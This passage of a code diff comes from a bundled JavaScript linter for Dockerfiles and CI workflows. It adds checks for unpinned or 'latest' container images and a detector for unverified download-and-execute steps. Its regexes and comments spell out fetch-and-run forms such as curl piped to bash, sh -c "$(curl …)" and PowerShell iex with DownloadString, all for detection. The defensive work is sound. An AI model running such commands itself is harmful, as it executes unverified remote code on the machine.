+        if (uses?.kind !== 'docker')
+            continue;
+        add('uses: docker://', uses.image, wf.spanWithin(step.uses.node, step.uses.value.trim()) ?? step.uses.span);
+    }
+    const image = wf.type === 'action' ? wf.runs?.image : undefined;
+    const runsImage = image && parseUses(image.value);
+    if (image && runsImage?.kind === 'docker')
+        add('runs.image: docker://', runsImage.image, wf.spanWithin(image.node, image.value.trim()) ?? image.span);
+    return out;
+}
+/** The references of an image use that have the given status. */
+function refsWithStatus(use, status) {
+    return use.refs.filter((r) => pinStatus(r.ref) === status);
+}
+
 ;// CONCATENATED MODULE: ./src/rules/containers/latest-image-tag.ts
+
 
 const WRITTEN = { from: 'FROM ', copy: 'COPY --from=', mount: 'RUN --mount=from=' };
 const shown = (use) => use.image.raw === use.image.value ? use.image.value : `${use.image.raw} (= ${use.image.value})`;
@@ -40426,7 +41361,8 @@ const shown = (use) => use.image.raw === use.image.value ? use.image.value : `${
     title: 'Image uses the latest tag or no tag',
     severity: 'high',
     area: 'containers',
-    summary: 'A Dockerfile pulls an image with `:latest` or with neither tag nor digest (FROM, COPY --from, RUN --mount from=), so every build may get a different image.',
+    summary: 'An image is pulled with `:latest` or with neither tag nor digest (Dockerfile FROM, COPY --from, RUN --mount from=; workflow `container:`, ' +
+        '`services.*.image`, `uses: docker://`, action `runs.image`), so every run may get a different image.',
     rationale: '`latest` is a moving label, and an image without a tag means `latest`. Builds stop being reproducible, a new major version of the base can break ' +
         'the build or the runtime without any change in the repository, and a compromised or hijacked upstream image reaches you on the next build. ' +
         'An image that has a tag but no digest is reported by `unpinned-image` instead: one reference raises at most one of the two rules.',
@@ -40445,6 +41381,16 @@ const shown = (use) => use.image.raw === use.image.value ? use.image.value : `${
             { path: 'Dockerfile', text: 'FROM ubuntu\nRUN apt-get update\n', line: 1 },
             { path: 'Dockerfile', text: 'ARG BASE=python\nFROM ${BASE}\n', line: 2 },
             {
+                path: '.github/workflows/ci.yml',
+                text: 'on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    services:\n      cache:\n        image: redis:latest\n    steps:\n      - run: make test\n',
+                line: 7,
+            },
+            {
+                path: '.github/workflows/ci.yml',
+                text: 'on: push\njobs:\n  hello:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: docker://ubuntu\n        with:\n          args: echo hi\n',
+                line: 6,
+            },
+            {
                 path: 'build/Dockerfile',
                 text: 'FROM golang:1.23@sha256:' + 'a'.repeat(64) + ' AS build\nFROM scratch\nCOPY --from=busybox /bin/sh /sh\n',
                 line: 3,
@@ -40459,10 +41405,16 @@ const shown = (use) => use.image.raw === use.image.value ? use.image.value : `${
                     'c'.repeat(64) +
                     ' AS Build\nFROM build AS test\nFROM scratch\nCOPY --from=BUILD /app /app\n',
             },
+            {
+                path: '.github/workflows/ci.yml',
+                text: 'on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    container:\n      image: ${{ matrix.image }}\n    strategy:\n      matrix:\n        image: [node:22, node:20]\n    steps:\n      - run: npm test\n',
+            },
         ],
     },
-    reads: ['dockerfile'],
+    reads: ['dockerfile', 'workflow'],
     check(doc, ctx) {
+        if ('jobs' in doc)
+            return checkWorkflow(doc, ctx);
         for (const use of doc.images) {
             const ref = parseImageRef(use.image.value);
             if (!ref || isScratch(ref) || pinStatus(ref) !== 'latest')
@@ -40480,6 +41432,18 @@ const shown = (use) => use.image.raw === use.image.value ? use.image.value : `${
         }
     },
 });
+function checkWorkflow(wf, ctx) {
+    for (const use of workflowImages(wf)) {
+        const bad = refsWithStatus(use, 'latest');
+        if (bad.length === 0)
+            continue;
+        const first = bad[0];
+        const what = first.viaMatrix
+            ? `${use.where}${'${{'} matrix.${first.viaMatrix} }} can be ${bad.map((r) => r.text).join(', ')}, the moving \`latest\` image`
+            : `${use.where}${first.text} ${first.ref.tag === 'latest' ? 'uses the moving `latest` tag' : 'has no tag, so it means `latest`'}`;
+        ctx.report({ message: `${what}: pin a version and digest, e.g. ${pinnedExample(first.ref)}`, at: use.span, confidence: use.confidence });
+    }
+}
 
 ;// CONCATENATED MODULE: ./src/rules/containers/runs-as-root.ts
 
@@ -40841,18 +41805,23 @@ const ONLY_REFERENCE = /^\$(\{[A-Za-z_][A-Za-z0-9_]*\}|[A-Za-z_][A-Za-z0-9_]*)$/
 
 ;// CONCATENATED MODULE: ./src/rules/containers/unpinned-image.ts
 
+
 const unpinned_image_WRITTEN = { from: 'FROM ', copy: 'COPY --from=', mount: 'RUN --mount=from=' };
+/** `name@sha256:${DIGEST}`: the digest comes from a variable, so the reference is pinned by intent, as Scorecard counts it. */
+const digestFromVariable = (ref) => ref.digest !== undefined && /^sha256:\$/.test(ref.digest);
 const unpinned_image_shown = (use) => use.image.raw === use.image.value ? use.image.value : `${use.image.raw} (= ${use.image.value})`;
 /* harmony default export */ const unpinned_image = ({
     id: 'unpinned-image',
     title: 'Image is not pinned by digest',
     severity: 'high',
     area: 'containers',
-    summary: 'A Dockerfile pulls an image by tag without an `@sha256:` digest (FROM, COPY --from, RUN --mount from=), so the bytes behind the tag can change.',
+    summary: 'An image is pulled by tag without an `@sha256:` digest (Dockerfile FROM, COPY --from, RUN --mount from=; workflow `container:`, ' +
+        '`services.*.image`, `uses: docker://`, action `runs.image`), so the bytes behind the tag can change.',
     rationale: 'Tags are mutable: the publisher, anyone who takes over the account, or a compromised registry can point `node:22` at different content, ' +
         'and your next build ships it. A digest names exactly one image and cannot be moved. Images with `:latest` or no tag at all are reported by ' +
         '`latest-image-tag` instead: one reference raises at most one of the two rules. When the reference comes from an `ARG` that has no value ' +
-        'in the Dockerfile, it is still reported, with low confidence.',
+        'in the Dockerfile, it is still reported, with low confidence. In workflows, an image written as one whole expression is skipped, ' +
+        'except `${{ matrix.x }}` whose values the job lists: each listed value is checked.',
     fix: 'Keep the tag for readability and add the digest: `FROM node:22.11@sha256:<digest>` (find it with `docker buildx imagetools inspect node:22.11`), ' +
         'and let Dependabot or Renovate keep the pin current. Build stages, stage numbers (`COPY --from=0`) and `scratch` are not reported.',
     references: [
@@ -40879,6 +41848,24 @@ const unpinned_image_shown = (use) => use.image.raw === use.image.value ? use.im
                 line: 2,
             },
             { path: 'Dockerfile', text: 'ARG IMAGE\nFROM ${IMAGE}\n', line: 2 },
+            {
+                path: '.github/workflows/ci.yml',
+                text: 'on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    container: node:22\n    services:\n      db:\n        image: postgres:17\n    steps:\n      - run: npm test\n',
+                line: 5,
+            },
+            {
+                path: '.github/workflows/lint.yml',
+                text: 'on: push\njobs:\n  lint:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: docker://ghcr.io/super-linter/super-linter:v7\n',
+                line: 6,
+            },
+            {
+                path: '.github/workflows/matrix.yml',
+                text: 'on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    strategy:\n      matrix:\n        image: [\'ubuntu:24.04@sha256:' +
+                    'd'.repeat(64) +
+                    "', 'debian:12']\n    container: ${{ matrix.image }}\n    steps:\n      - run: make\n",
+                line: 8,
+            },
+            { path: 'action.yml', text: "name: lint\nruns:\n  using: docker\n  image: 'docker://alpine:3.20'\n", line: 4 },
         ],
         good: [
             { path: 'Dockerfile', text: 'FROM node:22.11@sha256:' + 'b'.repeat(64) + '\n' },
@@ -40889,13 +41876,25 @@ const unpinned_image_shown = (use) => use.image.raw === use.image.value ? use.im
                     ' AS build\nFROM scratch\nCOPY --from=build /app /app\nCOPY --from=0 /lib /lib\n',
             },
             { path: 'Dockerfile', text: 'FROM ubuntu:latest\n' },
+            {
+                path: '.github/workflows/ci.yml',
+                text: 'on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    container:\n      image: node:22@sha256:' +
+                    'e'.repeat(64) +
+                    '\n    services:\n      db:\n        image: ${{ inputs.db-image }}\n    steps:\n      - uses: docker://alpine@sha256:' +
+                    'f'.repeat(64) +
+                    '\n',
+            },
+            { path: 'action.yml', text: 'name: build\nruns:\n  using: docker\n  image: Dockerfile\n' },
+            { path: 'Dockerfile', text: 'ARG DIGEST\nFROM node:22@sha256:${DIGEST}\n' },
         ],
     },
-    reads: ['dockerfile'],
+    reads: ['dockerfile', 'workflow'],
     check(doc, ctx) {
+        if ('jobs' in doc)
+            return unpinned_image_checkWorkflow(doc, ctx);
         for (const use of doc.images) {
             const ref = parseImageRef(use.image.value);
-            if (!ref || isScratch(ref) || pinStatus(ref) !== 'unpinned')
+            if (!ref || isScratch(ref) || pinStatus(ref) !== 'unpinned' || digestFromVariable(ref))
                 continue;
             const unresolved = use.image.unresolved;
             const note = unresolved.length > 0
@@ -40906,6 +41905,593 @@ const unpinned_image_shown = (use) => use.image.raw === use.image.value ? use.im
                 at: use.span,
                 confidence: unresolved.length > 0 ? 'low' : 'high',
             });
+        }
+    },
+});
+function unpinned_image_checkWorkflow(wf, ctx) {
+    for (const use of workflowImages(wf)) {
+        const bad = refsWithStatus(use, 'unpinned').filter((r) => !digestFromVariable(r.ref));
+        if (bad.length === 0)
+            continue;
+        const first = bad[0];
+        const what = first.viaMatrix
+            ? `${use.where}${'${{'} matrix.${first.viaMatrix} }} can be ${bad.map((r) => r.text).join(', ')}, not pinned by digest`
+            : `${use.where}${first.text} is not pinned by digest`;
+        ctx.report({
+            message: `${what}: use ${pinnedExample(first.ref)} (the tag kept for readability, the digest makes it immutable)`,
+            at: use.span,
+            confidence: use.confidence,
+        });
+    }
+}
+
+// EXTERNAL MODULE: ./node_modules/shell-quote/index.js
+var shell_quote = __nccwpck_require__(6591);
+;// CONCATENATED MODULE: ./src/analysis/shell.ts
+
+const EXPR = /\$\{\{[\s\S]*?\}\}/g;
+const SEPARATORS = new Set(['&&', '||', ';', '&', ';;', '|&', '|', '\n']);
+const REDIRECTS = new Set(['>', '>>', '<', '>&', '<&', '>|', '<>', '&>', '&>>']);
+/** Splits a script into logical lines: joins `\` continuations, drops heredoc bodies and comment lines. */
+function logicalLines(script) {
+    const raw = script.split(/\r?\n/);
+    const out = [];
+    let heredoc;
+    for (let i = 0; i < raw.length; i++) {
+        let text = raw[i];
+        if (heredoc) {
+            if ((heredoc.strip ? text.replace(/^\t+/, '') : text).trim() === heredoc.tag)
+                heredoc = undefined;
+            continue;
+        }
+        const start = i;
+        while (/(^|[^\\])(\\\\)*\\$/.test(text) && i + 1 < raw.length)
+            text = text.slice(0, -1) + ' ' + raw[++i];
+        const doc = /<<(-?)\s*(['"]?)([A-Za-z_][\w-]*)\2/.exec(text.replace(/'[^']*'/g, "''"));
+        if (doc)
+            heredoc = { tag: doc[3], strip: doc[1] === '-' };
+        if (text.trim() !== '' && !text.trim().startsWith('#'))
+            out.push({ text, line: start });
+    }
+    return out;
+}
+function parseShell(script) {
+    const commands = [];
+    const pipelines = [];
+    const lines = logicalLines(script);
+    for (const { text, line } of lines)
+        parseLine(text, line, commands, pipelines, undefined);
+    return { commands, pipelines, lines };
+}
+function parseLine(text, line, commands, pipelines, parent) {
+    // GitHub expressions are opaque words here; backticks become $( ) so both substitutions look alike.
+    const prepared = text.replace(EXPR, '__GHA_EXPR__').replace(/`([^`]*)`/g, '$($1)');
+    let tokens;
+    try {
+        tokens = (0,shell_quote.parse)(prepared, (key) => `$${key}`);
+    }
+    catch {
+        return;
+    }
+    const stack = [{ parent, substitution: parent !== undefined, pipe: [] }];
+    let pendingSubstitution = false;
+    let skipNext = false;
+    const endPipeline = (f) => {
+        if (f.pipe.length > 0)
+            pipelines.push(f.pipe);
+        f.pipe = [];
+    };
+    for (const tok of tokens) {
+        const f = stack[stack.length - 1];
+        if (typeof tok === 'string') {
+            if (skipNext) {
+                skipNext = false;
+                continue;
+            }
+            let word = tok;
+            if (word.endsWith('$')) {
+                word = word.slice(0, -1);
+                pendingSubstitution = true;
+                if (word === '')
+                    continue;
+            }
+            if (!f.current) {
+                f.current = { argv: [], assignments: [], line, substitution: f.substitution, parent: f.parent };
+                commands.push(f.current);
+                f.pipe.push(f.current);
+            }
+            if (f.current.argv.length === 0 && /^[A-Za-z_][A-Za-z0-9_]*=/.test(word))
+                f.current.assignments.push(word);
+            else if (word !== '')
+                f.current.argv.push(word);
+            // A quoted word can hold a substitution: `sh -c "$(curl …)"`.
+            for (const inner of innerSubstitutions(word))
+                parseLine(inner, line, commands, pipelines, f.current);
+            continue;
+        }
+        if ('comment' in tok)
+            break;
+        if (!('op' in tok)) {
+            if ('pattern' in tok && f.current)
+                f.current.argv.push(String(tok.pattern));
+            continue;
+        }
+        const op = String(tok.op);
+        if (op === '(' || op === '<(' || op === '>(') {
+            const feeds = pendingSubstitution || op !== '(';
+            pendingSubstitution = false;
+            if (!feeds) {
+                endPipeline(f);
+                f.current = undefined;
+            }
+            stack.push({ parent: feeds ? f.current : f.parent, substitution: feeds || f.substitution, pipe: [], resume: feeds ? f.current : undefined });
+            continue;
+        }
+        if (op === ')') {
+            if (stack.length > 1) {
+                const closed = stack.pop();
+                endPipeline(closed);
+                stack[stack.length - 1].current = closed.resume;
+            }
+            continue;
+        }
+        if (REDIRECTS.has(op) || op === '<<' || op === '<<-') {
+            skipNext = true;
+            continue;
+        }
+        if (SEPARATORS.has(op)) {
+            f.current = undefined;
+            if (op !== '|' && op !== '|&')
+                endPipeline(f);
+        }
+    }
+    for (const f of stack.reverse())
+        endPipeline(f);
+}
+function innerSubstitutions(word) {
+    const out = [];
+    let i = word.indexOf('$(');
+    while (i >= 0) {
+        let depth = 0;
+        let j = i + 1;
+        for (; j < word.length; j++) {
+            if (word[j] === '(')
+                depth++;
+            else if (word[j] === ')' && --depth === 0)
+                break;
+        }
+        out.push(word.slice(i + 2, j));
+        i = word.indexOf('$(', j);
+    }
+    return out;
+}
+/** The command behind wrappers: `sudo -E bash` → `bash`, `env X=1 node` → `node`, `time make` → `make`. */
+function unwrap(argv) {
+    let i = 0;
+    while (i < argv.length) {
+        const w = argv[i];
+        if (w === 'sudo' || w === 'doas') {
+            i++;
+            while (i < argv.length && argv[i].startsWith('-'))
+                i += /^-[ugCDhpr]$/.test(argv[i]) ? 2 : 1;
+        }
+        else if (w === 'env') {
+            i++;
+            while (i < argv.length && (argv[i].startsWith('-') || /^[A-Za-z_]\w*=/.test(argv[i])))
+                i++;
+        }
+        else if (w === 'time' || w === 'nohup' || w === 'exec' || w === 'command' || w === 'xargs')
+            i++;
+        else
+            break;
+    }
+    return argv.slice(i);
+}
+/** Base name of a program: `/usr/bin/python3` → `python3`. */
+function programName(word) {
+    return (word ?? '').replace(/^.*\//, '');
+}
+
+;// CONCATENATED MODULE: ./src/analysis/download-exec.ts
+
+const DOWNLOADERS = /^(curl|wget|fetch|aria2c|iwr|irm|invoke-webrequest|invoke-restmethod|gsutil|aws)$/i;
+const SHELLS = /^(sh|bash|zsh|dash|ksh|ash|mksh)$/;
+const INTERPRETERS = /^(sh|bash|zsh|dash|ksh|ash|mksh|python[\d.]*|pypy[\d.]*|perl|ruby|node|nodejs|php|pwsh|powershell|iex|invoke-expression|source|\.|eval)$/i;
+const VERIFY = /^(sha(1|224|256|384|512)sum|shasum|b2sum|gpg|gpgv|gpg2|cosign|minisign|signify|slsa-verifier|rekor-cli)$/;
+/** https and a 40-hex path segment followed by a file path: a commit-pinned raw file (not an http or `blob/` page URL). */
+const PINNED_URL = /^https:\/\/(?!github\.com\/[^/]+\/[^/]+\/blob\/)[^?#]*\/[0-9a-f]{40}\/[^?#]/i;
+const download_exec_URL = /^([a-z][a-z0-9+.-]*:\/\/|gs:\/\/|s3:\/\/)/i;
+function isDownloader(argv) {
+    const [p, sub, sub2] = argv.map((w, i) => (i === 0 ? programName(w).toLowerCase() : w));
+    if (!p || !DOWNLOADERS.test(p))
+        return false;
+    if (p === 'aws')
+        return (sub === 's3' && sub2 === 'cp') || (sub === 's3api' && sub2 === 'get-object');
+    if (p === 'gsutil')
+        return sub === 'cp' || argv.some((w) => w.startsWith('gs://'));
+    return true;
+}
+const urlsOf = (argv) => argv.filter((w) => download_exec_URL.test(w));
+/** True when the interpreter runs what arrives on stdin (`bash`, `sh -s --`, `python3 -`), not `-c`/`-e` code or a script file. */
+function readsStdin(argv) {
+    const p = programName(argv[0]).toLowerCase();
+    if (p === 'iex' || p === 'invoke-expression')
+        return true;
+    if (!INTERPRETERS.test(p) || p === 'source' || p === '.' || p === 'eval')
+        return false;
+    const inline = SHELLS.test(p) ? ['-c'] : /^(pwsh|powershell)$/.test(p) ? ['-file', '-f', '-encodedcommand'] : ['-c', '-m', '-e', '-E', '-p', '-r', '--eval', '--print'];
+    for (let i = 1; i < argv.length; i++) {
+        const w = argv[i];
+        if (inline.includes(w.toLowerCase()))
+            return false;
+        if (/^(pwsh|powershell)$/.test(p) && /^-c(ommand)?$/i.test(w))
+            return argv[i + 1] === '-';
+        if (w === '-' || w === '/dev/stdin' || w === '-s')
+            return true;
+        if (w === '--')
+            return argv[i + 1] === undefined || argv[i + 1] === '-';
+        if (w === '-o' || w === '-O' || w === '-W' || w === '-X')
+            i++;
+        else if (!w.startsWith('-') && !w.startsWith('+'))
+            return false;
+    }
+    return true;
+}
+/** Where a downloader writes its output (files only; stdout is handled by pipes and redirects). */
+function outputsOf(argv, lineText) {
+    const p = programName(argv[0]).toLowerCase();
+    const out = [];
+    const basename = (u) => (u ? u.replace(/[?#].*$/, '').replace(/\/+$/, '').replace(/^.*\//, '') : undefined);
+    const url = urlsOf(argv)[0] ?? argv.slice(1).find((w) => !w.startsWith('-'));
+    for (let i = 1; i < argv.length; i++) {
+        const w = argv[i];
+        const next = argv[i + 1];
+        if (p === 'curl') {
+            if ((w === '--output' || /^-[a-zA-Z]*o$/.test(w)) && next)
+                out.push(next);
+            else if (/^-[a-zA-Z]*o./.test(w) && !w.startsWith('--'))
+                out.push(w.slice(w.indexOf('o') + 1));
+            else if (w === '-O' || w === '--remote-name' || /^-[a-zA-Z]*O$/.test(w))
+                out.push(basename(url) ?? '');
+        }
+        else if (p === 'wget') {
+            if ((w === '-O' || /^-[a-zA-Z]+O$/.test(w)) && next && next !== '-')
+                out.push(next);
+            else if (/^-O.+/.test(w) && w !== '-O-')
+                out.push(w.slice(2));
+            else if (w.startsWith('--output-document=') && w !== '--output-document=-')
+                out.push(w.slice(18));
+        }
+        else if (/^(iwr|invoke-webrequest)$/.test(p) && /^-outfile$/i.test(w) && next)
+            out.push(next);
+    }
+    if (p === 'wget' && out.length === 0 && !argv.some((w) => /^-[a-zA-Z]*O/.test(w) || w.startsWith('--output-document'))) {
+        const dir = argv.find((w, i) => argv[i - 1] === '-P');
+        const name = basename(url);
+        if (name)
+            out.push(dir ? `${dir.replace(/\/$/, '')}/${name}` : name);
+    }
+    if (p === 'gsutil' || p === 'aws') {
+        const positional = argv.filter((w, i) => i > 0 && !w.startsWith('-') && !argv[i - 1].startsWith('--'));
+        const dest = positional.at(-1);
+        const key = argv[argv.indexOf('--key') + 1] ?? positional.at(-2);
+        if (dest)
+            out.push(dest.endsWith('/') || dest === '.' ? `${dest === '.' ? '' : dest}${basename(key) ?? ''}` : dest);
+    }
+    // `curl URL > file`: shell redirects are not words, so read them from the line.
+    const at = lineText.indexOf(argv[0]);
+    const tail = at < 0 ? '' : lineText.slice(at).split(/&&|\|\||;|\|/)[0];
+    for (const m of tail.matchAll(/(?:^|[^<>&0-9])>>?\s*([^\s;&|<>]+)/g))
+        if (m[1] !== '/dev/null')
+            out.push(m[1]);
+    return out.filter(Boolean);
+}
+const norm = (p) => p.replace(/^["']|["']$/g, '').replace(/^(\.\/)+/, '');
+/** Files a command executes: its own program path, or the script argument of an interpreter. */
+function executedFiles(argv) {
+    const w = unwrap(argv);
+    const p = programName(w[0]).toLowerCase();
+    if (!w[0])
+        return [];
+    if (w[0].includes('/'))
+        return [{ file: w[0], runner: w[0], bare: false }];
+    if (!INTERPRETERS.test(p))
+        return [];
+    for (let i = 1; i < w.length; i++) {
+        const a = w[i];
+        if (['-c', '-e', '-m', '-E', '-r', '-Command', '-command'].includes(a))
+            return [];
+        if (a === '-o' || a === '-O' || a === '-W' || a === '-X' || /^-file$/i.test(a)) {
+            if (/^-file$/i.test(a) && w[i + 1])
+                return [{ file: w[i + 1], runner: p, bare: true }];
+            i++;
+            continue;
+        }
+        if (!a.startsWith('-') && !a.startsWith('+'))
+            return [{ file: a, runner: p, bare: true }];
+    }
+    return [];
+}
+/** The physical line of a continued logical line that contains `word`. */
+function physicalLine(script, line, word) {
+    const lines = script.split(/\r?\n/);
+    for (let i = line; i < lines.length; i++) {
+        if (word && lines[i].includes(word))
+            return i;
+        if (!/\\\s*$/.test(lines[i]))
+            break;
+    }
+    return line;
+}
+function findDownloadExecs(blocks) {
+    const raw = findAll(blocks);
+    return raw.map((d) => ({ ...d, endLine: physicalLine(d.block.script, d.line, d.how === 'file' ? (d.file ?? '') : d.downloader) }));
+}
+function findAll(blocks) {
+    const found = [];
+    const files = new Map();
+    for (const block of blocks) {
+        const seq = files.get(block.sequence) ?? new Map();
+        files.set(block.sequence, seq);
+        const sh = parseShell(block.script);
+        const lineText = (line) => sh.lines.find((l) => l.line === line)?.text ?? '';
+        const pipeOf = new Map();
+        for (const p of sh.pipelines)
+            for (const c of p)
+                pipeOf.set(c, p);
+        const fetches = (c) => isDownloader(unwrap(c.argv)) ? c : sh.commands.find((s) => s.parent === c && isDownloader(unwrap(s.argv)));
+        const reported = new Set();
+        for (const c of sh.commands) {
+            const argv = unwrap(c.argv);
+            const prog = programName(argv[0]);
+            // curl … | [sudo] bash
+            const pipe = pipeOf.get(c);
+            if (pipe && pipe.indexOf(c) > 0 && readsStdin(argv)) {
+                const source = pipe.slice(0, pipe.indexOf(c)).map(fetches).find(Boolean);
+                if (source && !reported.has(source)) {
+                    reported.add(source);
+                    const url = urlsOf(source.argv)[0];
+                    if (!url || !PINNED_URL.test(url))
+                        found.push({ block, line: c.line, how: 'pipe', runner: prog, downloader: programName(unwrap(source.argv)[0]), url });
+                }
+            }
+            if (isDownloader(argv)) {
+                // bash <(curl …), sh -c "$(curl …)", source <(curl …), eval "$(curl …)"
+                const parent = c.substitution ? c.parent : undefined;
+                const runner = parent ? unwrap(parent.argv) : [];
+                const url = urlsOf(argv)[0];
+                if (parent && INTERPRETERS.test(programName(runner[0])) && !reported.has(c)) {
+                    reported.add(c);
+                    if (!url || !PINNED_URL.test(url))
+                        found.push({ block, line: c.line, how: 'substitution', runner: programName(runner[0]), downloader: programName(argv[0]), url });
+                }
+                else {
+                    for (const f of outputsOf(argv, lineText(c.line)))
+                        seq.set(norm(f), { url, downloader: programName(argv[0]), verified: !!url && PINNED_URL.test(url) });
+                }
+                continue;
+            }
+            if (VERIFY.test(prog) && (prog !== 'gpg' || argv.some((w) => w === '--verify'))) {
+                for (const p of seq.values())
+                    p.verified = true;
+                continue;
+            }
+            for (const ex of executedFiles(c.argv)) {
+                const target = norm(ex.file);
+                const hit = seq.get(target) ??
+                    (ex.file.startsWith('./') || ex.bare ? [...seq].find(([k]) => k.replace(/^.*\//, '') === target)?.[1] : undefined);
+                if (hit && !hit.verified) {
+                    hit.verified = true; // one report per download
+                    found.push({ block, line: c.line, how: 'file', runner: ex.runner, downloader: hit.downloader, url: hit.url, file: ex.file });
+                }
+            }
+        }
+        for (const l of sh.lines)
+            if (/\b(iex|invoke-expression)\b.*\b(downloadstring|invoke-webrequest|invoke-restmethod|iwr|irm)\b/i.test(l.text) && !found.some((f) => f.block === block && f.line === l.line))
+                found.push({ block, line: l.line, how: 'substitution', runner: 'Invoke-Expression', downloader: 'DownloadString' });
+    }
+    return found;
+}
+
+;// CONCATENATED MODULE: ./src/analysis/scripts.ts
+
+
+
+const scripts_SHELLS = /^(sh|bash|zsh|dash|ksh|ash|mksh)$/;
+const NON_POSIX_SHELLS = /^(python|cmd|powershell)$/;
+function workflowScripts(wf) {
+    const out = [];
+    const add = (steps, sequence) => {
+        for (const step of steps) {
+            if (!step.run || NON_POSIX_SHELLS.test(step.shell ?? ''))
+                continue;
+            out.push({ script: step.run.value, sequence, lineSpan: runLineSpan(wf, step) });
+        }
+    };
+    for (const job of wf.jobs)
+        add(job.steps, `job:${job.id}`);
+    if (wf.runs)
+        add(wf.runs.steps, 'runs');
+    return out;
+}
+function runLineSpan(wf, step) {
+    const run = step.run;
+    const lines = run.value.split('\n');
+    // A literal block keeps one source line per script line, starting on the line after `run: |`.
+    const literal = (0,dist/* isScalar */.jn)(run.node) && run.node.type === 'BLOCK_LITERAL';
+    return (i) => {
+        const text = (lines[i] ?? '').trim();
+        let from = 0;
+        for (let k = 0; k < i; k++)
+            from += lines[k].length + 1;
+        const target = literal ? run.span.line + 1 + i : undefined;
+        const found = text ? wf.spanWithin(run.node, text, from) : undefined;
+        if (found && (target === undefined || found.line === target))
+            return found;
+        if (target !== undefined)
+            return { line: target, column: 1, endLine: target, endColumn: 1 };
+        return run.span;
+    };
+}
+function dockerfileScripts(doc) {
+    const src = doc.text.split(/\r?\n/);
+    const root = (s) => {
+        const seen = new Set();
+        let cur = s;
+        while (cur.parent !== undefined && !seen.has(cur.index)) {
+            seen.add(cur.index);
+            cur = doc.stages[cur.parent] ?? cur;
+        }
+        return cur.index;
+    };
+    return doc.stages.flatMap((stage) => stage.instructions
+        .filter((ins) => ins.keyword.toUpperCase() === 'RUN')
+        .flatMap((ins) => runBlocks(src, ins, doc.escapeChar, `stage:${root(stage)}`)));
+}
+/** Span of a whole source line (0-based index), from its first non-blank character. */
+function wholeLine(src, index, fromColumn = 0) {
+    const text = src[index] ?? '';
+    const indent = Math.max(fromColumn, text.length - text.trimStart().length);
+    return { line: index + 1, column: indent + 1, endLine: index + 1, endColumn: Math.max(indent + 1, text.trimEnd().length + 1) };
+}
+function runBlocks(src, ins, escapeChar, sequence) {
+    const first = ins.span.line - 1;
+    const last = Math.max(first, ins.span.endLine - 1);
+    let head = (src[first] ?? '').slice(ins.span.column - 1).replace(/^\s*RUN\b/i, '');
+    for (let m = /^\s*--\S+/.exec(head); m; m = /^\s*--\S+/.exec(head))
+        head = head.slice(m[0].length);
+    const atFirst = () => wholeLine(src, first, ins.span.column - 1);
+    const markers = [...head.matchAll(/<<(-?)(["']?)([A-Za-z_][\w-]*)\2/g)];
+    if (markers.length > 0) {
+        const command = head.replace(/<<(-?)(["']?)([A-Za-z_][\w-]*)\2/g, '').trim();
+        const blocks = [];
+        if (command !== '')
+            blocks.push({ script: command, sequence, lineSpan: atFirst });
+        const words = command.split(/\s+/).filter(Boolean);
+        const bodiesAreShell = words.length === 0 || (scripts_SHELLS.test(programName(words[0])) && words.slice(1).every((w) => w.startsWith('-')));
+        let line = first + 1;
+        for (const m of markers) {
+            const start = line;
+            while (line < src.length && (m[1] === '-' ? src[line].replace(/^\t+/, '') : src[line]).trim() !== m[3])
+                line++;
+            const body = src.slice(start, line);
+            line++;
+            const shebang = /^#!\s*(\S+)(?:\s+(\S+))?/.exec(body[0] ?? '');
+            const interpreter = shebang ? programName(shebang[1] === '/usr/bin/env' ? shebang[2] : shebang[1]) : undefined;
+            if (!bodiesAreShell || (interpreter !== undefined && !scripts_SHELLS.test(interpreter)))
+                continue;
+            blocks.push({ script: body.join('\n'), sequence, lineSpan: (i) => wholeLine(src, start + i) });
+        }
+        return blocks;
+    }
+    if (head.trim().startsWith('[')) {
+        const json = [head, ...src.slice(first + 1, last + 1)].join('\n').replace(/\\\r?\n/g, ' ');
+        try {
+            const argv = JSON.parse(json);
+            if (Array.isArray(argv) && argv.every((a) => typeof a === 'string')) {
+                const words = argv;
+                const c = words.indexOf('-c');
+                const script = scripts_SHELLS.test(programName(words[0])) && c > 0 && words[c + 1] !== undefined ? words[c + 1] : (0,shell_quote.quote)(words);
+                return [{ script, sequence, lineSpan: atFirst }];
+            }
+        }
+        catch {
+            // Not valid JSON: Docker runs it as shell form, and so do we.
+        }
+    }
+    // Shell form: Docker drops comment and blank lines inside a continued instruction.
+    const lines = [];
+    const origin = [];
+    for (let i = first; i <= last; i++) {
+        let text = i === first ? head : src[i] ?? '';
+        if (i > first && (text.trim() === '' || text.trim().startsWith('#')))
+            continue;
+        if (escapeChar === '`' && /`\s*$/.test(text))
+            text = text.replace(/`\s*$/, '\\');
+        lines.push(text);
+        origin.push(i);
+    }
+    return [{ script: lines.join('\n'), sequence, lineSpan: (i) => (i === 0 ? atFirst() : wholeLine(src, origin[i] ?? first)) }];
+}
+
+;// CONCATENATED MODULE: ./src/rules/supply-chain/curl-pipe-shell.ts
+
+
+const host = (url) => {
+    if (!url)
+        return 'a URL';
+    try {
+        return new URL(url).host || url;
+    }
+    catch {
+        return url.slice(0, 60);
+    }
+};
+function message(d) {
+    const from = host(d.url);
+    const what = d.how === 'pipe'
+        ? `\`${d.downloader} … | ${d.runner}\` runs a script from ${from} as it downloads it`
+        : d.how === 'substitution'
+            ? `\`${d.runner}\` runs the output of \`${d.downloader}\` (${from}) directly`
+            : `\`${d.file}\` is downloaded with ${d.downloader} from ${from} and run without a checksum or signature check`;
+    return (`${what}: whoever controls that URL or the path to it runs code here. Download to a file, verify its SHA-256 ` +
+        '(`echo "<sha256>  install.sh" | sha256sum -c -`), then run it; or pin the URL to a commit SHA, or install with a package manager.');
+}
+/* harmony default export */ const curl_pipe_shell = ({
+    id: 'curl-pipe-shell',
+    title: 'Downloaded script runs without verification',
+    severity: 'high',
+    area: 'supply-chain',
+    summary: 'A Dockerfile `RUN` or a workflow `run:` step executes code straight from the network: `curl … | sh`, `bash <(curl …)`, ' +
+        '`sh -c "$(curl …)"`, or a downloaded file run without a checksum or signature check.',
+    rationale: 'The script is fetched at build time from a URL whose content can change at any moment: a compromised host, a hijacked ' +
+        'account, a moved branch or a man-in-the-middle puts arbitrary code into the image or onto a CI runner that holds secrets. ' +
